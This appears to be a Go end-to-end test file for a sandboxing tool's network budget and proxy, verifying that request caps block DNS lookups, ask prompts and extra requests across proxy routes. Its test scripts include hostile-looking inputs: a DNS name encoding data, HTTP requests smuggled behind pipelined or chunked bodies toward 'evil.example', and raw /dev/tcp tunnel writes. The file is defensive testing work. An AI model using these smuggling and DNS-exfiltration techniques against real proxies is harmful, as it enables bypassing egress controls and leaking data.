//go:build linux

package tests

// Issue 27, item 3, through the real binary: network.budget holds before
// anything leaves. A request over a cap makes no DNS query (the test
// build's CORRAL_TEST_LOOKUPS logs every lookup the proxy would send to a
// resolver, and resolves nothing) and no question on the ask channel; and
// every plain-HTTP request counts, however the client reaches the proxy
// (HTTP_PROXY, CONNECT, SOCKS5, transparent egress) and however it packs
// its requests (kept alive, pipelined, hidden after a body). The origins
// listen on 127.0.0.1 only; every name is pinned with --resolve or logged
// unresolved.

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

// headCounter is an HTTP origin that answers every request head on a
// connection and keeps it alive, whatever the head says: the most
// lenient origin, so it sees every head that reaches it, by Host.
type headCounter struct {
	port  int
	mu    sync.Mutex
	heads []string // "HOST METHOD TARGET"
}

func newHeadCounter(t *testing.T) *headCounter {
	t.Helper()
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	o := &headCounter{port: ln.Addr().(*net.TCPAddr).Port}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go o.serve(c)
		}
	}()
	return o
}

func (o *headCounter) serve(c net.Conn) {
	defer c.Close()
	c.SetDeadline(time.Now().Add(20 * time.Second))
	br := bufio.NewReader(c)
	for {
		line, err := br.ReadString('\n')
		if err != nil {
			return
		}
		if strings.TrimSpace(line) == "" {
			continue
		}
		f := strings.Fields(line)
		host, length, chunked := "", int64(0), false
		for {
			l, err := br.ReadString('\n')
			if err != nil {
				return
			}
			if strings.TrimSpace(l) == "" {
				break
			}
			k, v, _ := strings.Cut(l, ":")
			switch strings.ToLower(strings.TrimSpace(k)) {
			case "host":
				host, _, _ = strings.Cut(strings.TrimSpace(v), ":")
			case "content-length":
				length, _ = strconv.ParseInt(strings.TrimSpace(v), 10, 64)
			case "transfer-encoding":
				chunked = strings.Contains(strings.ToLower(v), "chunked")
			}
		}
		head := host
		if len(f) >= 2 {
			head += " " + f[0] + " " + f[1]
		}
		o.mu.Lock()
		o.heads = append(o.heads, head)
		o.mu.Unlock()
		if chunked && readChunks(br) != nil {
			return
		}
		if _, err := io.CopyN(io.Discard, br, length); err != nil {
			return
		}
		if _, err := io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nOK\n"); err != nil {
			return
		}
	}
}

// readChunks reads a chunked body up to the end of its trailers.
func readChunks(br *bufio.Reader) error {
	for {
		l, err := br.ReadString('\n')
		if err != nil {
			return err
		}
		n, err := strconv.ParseInt(strings.TrimSpace(strings.SplitN(l, ";", 2)[0]), 16, 64)
		if err != nil {
			return err
		}
		if n == 0 {
			for {
				if l, err := br.ReadString('\n'); err != nil || strings.TrimSpace(l) == "" {
					return err
				}
			}
		}
		if _, err := io.CopyN(io.Discard, br, n+2); err != nil {
			return err
		}
	}
}

// seen are the heads that reached the origin for host.
func (o *headCounter) seen(host string) []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	var out []string
	for _, h := range o.heads {
		if strings.HasPrefix(h, host+" ") || h == host {
			out = append(out, h)
		}
	}
	return out
}

// budgetNet is a fixture whose skill allows every .test name and the
// origin's loopback port, with budget as its network.budget (YAML lines
// under "budget:", indented 6), and no exec list (bash, cat and curl
// run).
func budgetNet(t *testing.T, u user, port int, budget string) netFixture {
	t.Helper()
	f := newNet(t, u)
	f.skill = writeSkill(t, newDir(t, asSelf, "skills"), "budgeted", fmt.Sprintf(`  fs:
    write: ["$WORK_DIR/**"]
  network:
    allow: ["*.test:%[1]d", "preset:loopback:%[1]d"]
    budget:
%[2]s`, port, budget))
	return f
}

// proxyVars sets $proxy (HOST:PORT), $proxy_host and $proxy_port from
// HTTP_PROXY: the landlock tier's proxy listens on a port of its own per
// run, the namespaces tier's on 127.0.0.1:3128.
const proxyVars = `proxy=${HTTP_PROXY#http://}; proxy=${proxy%/}; proxy_host=${proxy%:*}; proxy_port=${proxy##*:}; export proxy proxy_host proxy_port
`

// runEnv is f.run with more environment variables for corral.
func (f netFixture) runEnv(t *testing.T, env []string, script string, flags ...string) result {
	t.Helper()
	writeFile(t, filepath.Join(f.work, "attack.sh"), "probe="+f.probe+"\n"+script+"\necho "+attackDone+"\n", 0o644)
	own(t, f.u, filepath.Join(f.work, "attack.sh"))
	args := []string{"exec", "--work-dir", f.work, "--audit-log", f.audit, "--report", f.report, "--skill", f.skill}
	args = append(append(append(args, flags...), "--"), "sh", "attack.sh")
	r := f.u.run(t, runOpts{args: args, dir: f.work, env: append(defaultEnv(), env...)})
	if !strings.Contains(r.stdout, attackDone) || r.code != 0 {
		t.Fatalf("the attack script did not run to its end and exit 0:\n%s", r)
	}
	return r
}

// TestNetworkBudgetNoLookup: once a request cap is spent, requests for
// names the command chose make no DNS query, by HTTP_PROXY, CONNECT,
// SOCKS5 and (namespaces tier) transparent egress. A lookup that fails
// counts: its query left.
func TestNetworkBudgetNoLookup(t *testing.T) {
	t.Parallel()
	attack(t, "network", "spell data into DNS names after network.budget is spent")
	users(t, func(t *testing.T, u user) {
		o := newHeadCounter(t)
		f := budgetNet(t, u, o.port, "      total: {requests: 2}\n")
		lookups := filepath.Join(newDir(t, u, "lookups"), "names")
		script := proxyVars + fmt.Sprintf(`
curl -q -sS --max-time 20 -o /dev/null -w 'CASE first %%{http_code}\n' http://a.test:%[1]d/
curl -q -sS --max-time 20 -o /dev/null -w 'CASE nx %%{http_code}\n' http://nx-c2vjcmv0.test:%[1]d/
curl -q -sS --max-time 20 -o /dev/null -w 'CASE proxied %%{http_code}\n' http://x1-proxied.test:%[1]d/
curl -q -sS --max-time 20 -p -o /dev/null -w 'CASE connect %%{http_connect}\n' http://x2-connect.test:%[1]d/
curl -q -sS --max-time 20 --socks5-hostname "$proxy" -o /dev/null -w 'CASE socks %%{http_code}\n' http://x3-socks.test:%[1]d/
`, o.port)
		if e2eTier != "landlock" {
			script += fmt.Sprintf("curl -q -sS --max-time 20 --noproxy '*' -o /dev/null -w 'CASE transparent %%{http_code}\\n' http://x4-transparent.test:%d/\n", o.port)
		}
		r := f.runEnv(t, []string{"CORRAL_TEST_LOOKUPS=" + lookups}, script, "--resolve", "a.test=127.0.0.1")
		c := cases(r.stdout)
		if c["first"] != "200" || c["nx"] != "502" || c["proxied"] != "403" || c["connect"] != "403" {
			t.Errorf("first %q, nx %q, proxied %q, connect %q; want 200 502 403 403:\n%s", c["first"], c["nx"], c["proxied"], c["connect"], r)
		}
		got, _ := os.ReadFile(lookups)
		if strings.TrimSpace(string(got)) != "nx-c2vjcmv0.test" {
			t.Errorf("the proxy looked up %q; want only nx-c2vjcmv0.test, the one name the cap admitted", strings.Fields(string(got)))
		}
		var refused int
		for _, ev := range readAudit(t, f.audit) {
			if ev.Rule == "network.budget" {
				refused++
				if !strings.HasPrefix(ev.Host, "x") {
					t.Errorf("refused by the budget: %v", ev)
				}
			}
		}
		if want := map[bool]int{true: 3, false: 4}[e2eTier == "landlock"]; refused != want {
			t.Errorf("%d refusals by network.budget in the audit log, want %d", refused, want)
		}
	})
}

// TestNetworkBudgetNoQuestion: a request over a cap to a host no rule
// lists is refused without a question on the ask channel.
func TestNetworkBudgetNoQuestion(t *testing.T) {
	t.Parallel()
	attack(t, "network", "ask about a host after network.budget is spent")
	users(t, func(t *testing.T, u user) {
		s := newAskServer(t)
		work := newDir(t, u, "work")
		skill := writeSkill(t, newDir(t, asSelf, "skills"), "fetcher", fmt.Sprintf(
			"  fs:\n    write: [\"$WORK_DIR/**\"]\n  network:\n    allow: [\"allowed.test:%[1]d\", \"preset:loopback:%[1]d\"]\n    budget:\n      total: {requests: 1}\n", s.port))
		writeFile(t, filepath.Join(work, "fetch.sh"), curls(fmt.Sprintf("http://allowed.test:%d/", s.port), fmt.Sprintf("http://other.test:%d/", s.port)), 0o644)
		own(t, u, filepath.Join(work, "fetch.sh"))
		r, c := runAskAs(t, u, work, []string{"--skill", skill, "--resolve", "allowed.test=127.0.0.1", "--resolve", "other.test=127.0.0.1", "--", "sh", "fetch.sh"},
			func(int, askQuestion) string { return "allow-once" })
		if got := strings.Join(codes(r.stdout), " "); got != "200 403" {
			t.Errorf("statuses %q, want 200 403:\n%s", got, r)
		}
		if len(c.questions) != 0 {
			t.Errorf("asked %+v: the budget had refused the request already", c.questions)
		}
		if n := s.hits.Load(); n != 1 {
			t.Errorf("the origin got %d requests, want 1", n)
		}
	})
}

// TestNetworkBudgetKeepAlive: a client that keeps its connection for
// twelve requests gets two through under a cap of two, by every route:
// each request comes on a connection of its own, counted (through a
// CONNECT or SOCKS5 tunnel or transparent egress, 12 of 12 went through
// one kept-alive connection).
func TestNetworkBudgetKeepAlive(t *testing.T) {
	t.Parallel()
	attack(t, "network", "carry many requests in one kept-alive connection past network.budget")
	users(t, func(t *testing.T, u user) {
		o := newHeadCounter(t)
		f := budgetNet(t, u, o.port, `      hosts:
        "p.test:*": {requests: 2}
        "c.test:*": {requests: 2}
        "s.test:*": {requests: 2}
        "t.test:*": {requests: 2}
`)
		urls := func(host string) string {
			var b strings.Builder
			for i := range 12 {
				fmt.Fprintf(&b, " http://%s:%d/%d", host, o.port, i)
			}
			return b.String()
		}
		routes := map[string]string{"p.test": "", "c.test": "-p", "s.test": `--socks5-hostname "$proxy"`}
		if e2eTier != "landlock" {
			routes["t.test"] = "--noproxy '*'"
		}
		var script strings.Builder
		script.WriteString(proxyVars)
		for host, flags := range routes {
			fmt.Fprintf(&script, "curl -q -s --max-time 20 %s -o /dev/null -w '%s %%{http_code}\\n'%s\n", flags, host, urls(host))
		}
		r := f.run(t, script.String(), "--resolve", "p.test=127.0.0.1", "--resolve", "c.test=127.0.0.1", "--resolve", "s.test=127.0.0.1", "--resolve", "t.test=127.0.0.1")
		for host := range routes {
			answered := strings.Count(r.stdout, host+" 200\n")
			if got := o.seen(host); answered != 2 || len(got) != 2 {
				t.Errorf("%s (curl %s): %d answers, the origin read %d heads; want 2 of each (the cap):\n%s", host, routes[host], answered, len(got), r)
			}
		}
	})
}

// TestTunnelOneRequestE2E: requests pipelined in one write, or hidden
// after a body the head frames, never reach the origin: through a
// CONNECT tunnel (both tiers) and transparent egress (namespaces tier),
// the origin reads the first request alone, with the Host the proxy
// checked.
func TestTunnelOneRequestE2E(t *testing.T) {
	t.Parallel()
	attack(t, "network", "smuggle requests behind the first in a tunnel")
	users(t, func(t *testing.T, u user) {
		o := newHeadCounter(t)
		f := budgetNet(t, u, o.port, "      each: {requests: 100}\n")
		reqs := func(host string) string {
			h := fmt.Sprintf("Host: %s:%d\\r\\n", host, o.port)
			return "GET /one HTTP/1.1\\r\\n" + h + "\\r\\n" +
				"GET /two HTTP/1.1\\r\\n" + h + "\\r\\n" +
				"POST /three HTTP/1.1\\r\\n" + h + "Content-Length: 5\\r\\n\\r\\nhello" +
				"GET /smuggled HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"
		}
		hidden := func(host string) string {
			return fmt.Sprintf("POST /body HTTP/1.1\\r\\nHost: %s:%d\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n5\\r\\nhello\\r\\n0\\r\\n\\r\\n", host, o.port) +
				"GET /smuggled HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n"
		}
		// bash's /dev/tcp writes each printf at once; the proxy ends the
		// connection after its one answer, so cat ends too.
		script := proxyVars + fmt.Sprintf(`
bash -c 'exec 3<>/dev/tcp/$proxy_host/$proxy_port; printf "CONNECT c.test:%[1]d HTTP/1.1\r\n\r\n%[2]s" >&3; timeout 15 cat <&3' | grep -c '^OK' | sed 's/^/CASE connect /'
bash -c 'exec 3<>/dev/tcp/$proxy_host/$proxy_port; printf "CONNECT h.test:%[1]d HTTP/1.1\r\n\r\n%[3]s" >&3; timeout 15 cat <&3' | grep -c '^OK' | sed 's/^/CASE hidden /'
`, o.port, reqs("c.test"), hidden("h.test"))
		if e2eTier != "landlock" {
			script += fmt.Sprintf(`bash -c 'exec 3<>/dev/tcp/t.test/%[1]d; printf "%[2]s" >&3; timeout 15 cat <&3' | grep -c '^OK' | sed 's/^/CASE transparent /'
`, o.port, reqs("t.test"))
		}
		r := f.run(t, script, "--resolve", "c.test=127.0.0.1", "--resolve", "h.test=127.0.0.1", "--resolve", "t.test=127.0.0.1")
		c := cases(r.stdout)
		want := map[string]string{"c.test": "c.test GET /one", "h.test": "h.test POST /body"}
		if e2eTier != "landlock" {
			want["t.test"] = "t.test GET /one"
		}
		for host, first := range want {
			if got := o.seen(host); len(got) != 1 || got[0] != first {
				t.Errorf("the origin read %q for %s, want only %q", got, host, first)
			}
		}
		if got := o.seen("evil.example"); len(got) != 0 {
			t.Errorf("smuggled requests reached the origin: %q", got)
		}
		for _, k := range []string{"connect", "hidden"} {
			if c[k] != "1" {
				t.Errorf("%s: %q answers, want 1:\n%s", k, c[k], r)
			}
		}
	})
}

// TestTunnelURLCheckedE2E: a plain-HTTP request inside a tunnel meets the
// agent policy's URL rules as through HTTP_PROXY. The policy allows only
// https:// to the origin's port, so the tunnel (decided as https, its
// paths unseen) is allowed, and the plain-HTTP request inside it is not.
func TestTunnelURLCheckedE2E(t *testing.T) {
	t.Parallel()
	attack(t, "network", "send plain HTTP the URL rules refuse through a tunnel they allow")
	users(t, func(t *testing.T, u user) {
		o := newHeadCounter(t)
		f := budgetNet(t, u, o.port, "      each: {requests: 100}\n")
		pol := writePolicy(t, newDir(t, asSelf, "policy"), fmt.Sprintf(`{"url": {"default": "deny", "allow": ["https://api.test:%d/*"]}}`, o.port))
		script := proxyVars + fmt.Sprintf(`
curl -q -s --max-time 20 -o /dev/null -w 'CASE proxied %%{http_code}\n' http://api.test:%[1]d/proxied
curl -q -s --max-time 20 -p -o /dev/null -w 'CASE connect %%{http_code}\n' http://api.test:%[1]d/connect
curl -q -s --max-time 20 --socks5-hostname "$proxy" -o /dev/null -w 'CASE socks %%{http_code}\n' http://api.test:%[1]d/socks
`, o.port)
		if e2eTier != "landlock" {
			script += fmt.Sprintf("curl -q -s --max-time 20 --noproxy '*' -o /dev/null -w 'CASE transparent %%{http_code}\\n' http://api.test:%d/transparent\n", o.port)
		}
		r := f.run(t, script, "--resolve", "api.test=127.0.0.1", "--policy", pol, "--global-policy", "", "--confirmed")
		c := cases(r.stdout)
		want := []string{"proxied", "connect", "socks"}
		if e2eTier != "landlock" {
			want = append(want, "transparent")
		}
		for _, k := range want {
			if c[k] != "403" {
				t.Errorf("%s: %q, want 403 (the URL rules allow only https)\n%s", k, c[k], r)
			}
		}
		if got := o.seen("api.test"); len(got) != 0 {
			t.Errorf("the origin read %q", got)
		}
	})
}
